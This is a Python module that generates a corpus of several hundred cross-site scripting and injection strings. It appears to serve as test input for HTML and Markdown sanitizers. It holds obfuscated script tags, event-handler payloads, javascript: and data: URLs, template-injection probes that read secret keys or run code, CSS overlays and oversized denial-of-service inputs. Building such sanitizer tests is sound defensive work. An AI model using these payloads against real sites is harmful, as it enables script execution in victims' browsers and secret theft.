"""What one types to run a script, or to break a page, where only words are expected.

`toutes()`: more than 300 distinct texts, each of which calls `attaque()` where it works. Families:
elements that load, elements that answer an event, addresses, encodings, unfinished markup,
namespaces, templates, style, Markdown, and what hides in a name or a title.
"""

from collections.abc import Iterator

APPEL = "attaque()"
ADRESSES = [
    f"javascript:{APPEL}",
    f"JaVaScRiPt:{APPEL}",
    f" javascript:{APPEL}",
    f"java\tscript:{APPEL}",
    f"java\nscript:{APPEL}",
    f"java&#9;script:{APPEL}",
    f"&#106;avascript:{APPEL}",
    f"&#x6A;avascript:{APPEL}",
    f"javascript&colon;{APPEL}",
    f"javascript&#58;{APPEL}",
    f"javascript://%0a{APPEL}",
    f"javascript:/*--></title></style></textarea></script>*/{APPEL}",
    f"\x01javascript:{APPEL}",
    f"vbscript:{APPEL}",
    f"data:text/html,<script>{APPEL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hdHRhcXVlKCk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{APPEL}'/>",
    f"feed:javascript:{APPEL}",
    f"view-source:javascript:{APPEL}",
    f"//%0ajavascript:{APPEL}",
    f"https://a.example/%22onmouseover={APPEL}",
    f'https://a.example/"onmouseover="{APPEL}',
    f"https://a.example/'onmouseover='{APPEL}",
]
PORTEURS = [
    '<a href="{0}">x</a>',
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>',
    '<svg><a xlink:href="{0}"><text y="9">x</text></a></svg>',
    "[x]({0})",
    "[x](<{0}>)",
    "<{0}>",
    "![x]({0})",
    '[x](https://a.example "{0}")',
    "[a]: {0}\n\n[a]",
]
EVENEMENTS = [
    f"<img src=x onerror={APPEL}>",
    f"<img src=x onerror='{APPEL}'>",
    f'<img src="x" onerror="{APPEL}">',
    f"<img/src=x/onerror={APPEL}>",
    f"<IMG SRC=x OnErRoR={APPEL}>",
    f"<img src=x onerror\n=\n{APPEL}>",
    f'<img """><script>{APPEL}</script>">',
    f"<image src=x onerror={APPEL}>",
    f"<svg onload={APPEL}>",
    f"<svg/onload={APPEL}>",
    f"<svg><animate onbegin={APPEL} attributeName=x dur=1s>",
    f"<svg><set onbegin={APPEL} attributename=x dur=1s>",
    f"<svg><image href=x onerror={APPEL}>",
    f"<svg><script>{APPEL}</script></svg>",
    f"<svg><foreignObject><img src=x onerror={APPEL}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={APPEL}></mtext></math>",
    f"<math><mi//xlink:href='data:x,<script>{APPEL}</script>'>",
    f"<body onload={APPEL}>",
    f"<body onpageshow={APPEL}>",
    f"<input autofocus onfocus={APPEL}>",
    f"<select autofocus onfocus={APPEL}>",
    f"<textarea autofocus onfocus={APPEL}></textarea>",
    f"<button popovertarget=x onclick={APPEL}>x</button>",
    f"<details open ontoggle={APPEL}><summary>x</summary></details>",
    f"<video src=x onerror={APPEL}></video>",
    f"<video><source onerror={APPEL} src=x></video>",
    f"<audio src=x onerror={APPEL}></audio>",
    f"<object data=x onerror={APPEL}></object>",
    f"<embed src=x onerror={APPEL}>",
    f"<marquee onstart={APPEL}>x</marquee>",
    f"<div tabindex=1 autofocus onfocus={APPEL}>x</div>",
    f"<div style='animation:x' onanimationstart={APPEL}>x</div>",
    f"<xss id=x tabindex=1 onfocus={APPEL}>x</xss>",
    f"<link rel=stylesheet href=x onerror={APPEL}>",
    f"<style onload={APPEL}></style>",
    f"<iframe srcdoc='<script>parent.{APPEL}</script>'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{APPEL}&lt;/script&gt;'></iframe>",
    f"<dialog open onclose={APPEL}><form method=dialog><button>x</button></form></dialog>",
    f"<meter onmouseover={APPEL}>0</meter>",
    f"<p onmouseover={APPEL}>x</p>",
]
SCRIPTS = [
    f"<script>{APPEL}</script>",
    f"<SCRIPT>{APPEL}</SCRIPT>",
    f"<script >{APPEL}</script >",
    f"<script\n>{APPEL}</script\n>",
    f"<script/x>{APPEL}</script>",
    f"<script type=module>{APPEL}</script>",
    f"<<script>{APPEL}//<</script>",
    f"<scr<script>ipt>{APPEL}</scr</script>ipt>",
    f"<script>{APPEL}",
    f"<script\x00>{APPEL}</script>",
    f"<scr\x00ipt>{APPEL}</scr\x00ipt>",
    f"\ufeff<script>{APPEL}</script>",
    f"\u2028<script>{APPEL}</script>",
    f"＜script＞{APPEL}＜/script＞",
    f"&lt;script&gt;{APPEL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{APPEL}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{APPEL}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{APPEL}&#x3c;/script&#x3e;",
    f"\\u003cscript\\u003e{APPEL}\\u003c/script\\u003e",
    f"%3Cscript%3E{APPEL}%3C/script%3E",
    f"+ADw-script+AD4-{APPEL}+ADw-/script+AD4-",
    f"<!--><script>{APPEL}</script>-->",
    f"<!--<img src='--><img src=x onerror={APPEL}>'>",
    f"<![CDATA[<script>{APPEL}</script>]]>",
    f"<?xml version='1.0'?><script>{APPEL}</script>",
    f"<template><script>{APPEL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={APPEL}>'></noscript>",
    f"<noembed><img title='</noembed><img src=x onerror={APPEL}>'></noembed>",
    f"<plaintext><img src=x onerror={APPEL}>",
    f"<xmp><p title='</xmp><script>{APPEL}</script>'>",
    f"<base href='javascript:{APPEL}//'><a href=x>x</a>",
    f"<meta http-equiv=refresh content='0;url=javascript:{APPEL}'>",
    f"<object type=text/html data='data:text/html,<script>{APPEL}</script>'></object>",
]
SORTIES = [
    '"', "'", '">', "'>", "`>", "</textarea>", "</title>", "</style>", "</script>",
    "</option></select>", "</p></div></main>", "-->", "]]>", "\n\n",
    "</noscript>", "</template>", "*/", "}}", "%}",
]  # fmt: skip
SUITES = [
    f"<script>{APPEL}</script>",
    f"<img src=x onerror={APPEL}>",
    f" autofocus onfocus={APPEL} x=",
    f"<svg onload={APPEL}>",
]
GABARITS = [
    "{{ 7|add:7 }}", "{% debug %}", "{{ settings.SECRET_KEY }}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('attaque()')()}}",
    "{{$on.constructor('attaque()')()}}", "%(qui)s", "%s%s%n",
    "{0.__class__}", "\\N{LATIN SMALL LETTER A}",
]  # fmt: skip
STYLES = [
    f"<style>@import 'javascript:{APPEL}';</style>",
    f"<p style='background:url(javascript:{APPEL})'>x</p>",
    f"<p style='width:expression({APPEL})'>x</p>",
    f"<p style='-moz-binding:url(x#{APPEL})'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
    f"<p class='fr-modal--opened' data-fr-opened=true hx-get='/x' hx-on:load='{APPEL}'>x</p>",
    f"<p hx-on::load={APPEL} data-hx-trigger=load>x</p>",
]
MARKDOWN = [
    f"**<img src=x onerror={APPEL}>**",
    f"> <script>{APPEL}</script>",
    f"- <svg onload={APPEL}>",
    f"1. [x](javascript:{APPEL})",
    f"    <script>{APPEL}</script>",
    f"```\n</code></pre><script>{APPEL}</script>\n```",
    f"`<img src=x onerror={APPEL}>`",
    f"[<img src=x onerror={APPEL}>](https://a.example)",
    f"[x](https://a.example/\\\"onmouseover={APPEL})",
    f'[x](https://a.example "\\" onmouseover={APPEL} x=\\"")',
    f"[x](https://a.example '\" onmouseover={APPEL}')",
    f"![x\" onerror=\"{APPEL}](x)",
    f"![x](x\"onerror=\"{APPEL})",
    f"[![x](x)](javascript:{APPEL})",
    f"<https://a.example/?x=<script>{APPEL}</script>>",
    f"<a@a.example?body=<script>{APPEL}</script>>",
    f"https://a.example/<script>{APPEL}</script>",
    f"https://a.example/?q=\"onclick={APPEL}//",
    f"[x]:<javascript:{APPEL}>\n[x]",
    f"[x]: https://a.example \"'onmouseover={APPEL}\"\n[x]",
    f"| <img src=x onerror={APPEL}> |\n|---|\n| x |",
    f"# <script>{APPEL}</script>",
    f"<script>{APPEL}</script>\n===",
    f"[^1]\n\n[^1]: <img src=x onerror={APPEL}>",
    f":::html\n<script>{APPEL}</script>\n:::",
    f"\\<script\\>{APPEL}\\</script\\>",
    f"[x](&#x6A;avascript:{APPEL})",
    f"[x](\\javascript:{APPEL})",
    f"[x](javascript\\:{APPEL})",
    f"[x](\x0bjavascript:{APPEL})",
    "> " * 400 + "x",
    "- " * 400 + "x",
    "[" * 2000,
    "*" * 2000,
    "![" * 1000,
    "<" * 2000,
    "\\" * 2000,
    "\u202e<tpircs>gpj.exe",
    "a\u0300" * 500,
    "\u200b\u200b\u200b",
    "﷽" * 200,
    "x" * 5000,
]  # fmt: skip


def toutes() -> list[str]:
    return list(dict.fromkeys(_toutes()))


def _toutes() -> Iterator[str]:
    for porteur in PORTEURS:
        yield from (porteur.format(adresse) for adresse in ADRESSES)
    yield from EVENEMENTS
    yield from SCRIPTS
    for sortie in SORTIES:
        yield from (sortie + suite for suite in SUITES)
    yield from GABARITS
    yield from STYLES
    yield from MARKDOWN
